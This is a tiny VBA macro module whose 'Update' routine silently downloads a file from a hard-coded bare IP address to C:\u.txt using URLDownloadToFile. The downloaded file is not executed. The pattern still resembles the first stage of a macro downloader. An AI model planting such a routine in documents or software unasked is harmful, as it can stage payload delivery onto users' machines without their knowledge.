Attribute VB_Name = "Module2"
Sub Update()
    URLDownloadToFile 0, "http://198.51.100.9/u", "C:\u.txt", 0, 0
End Sub
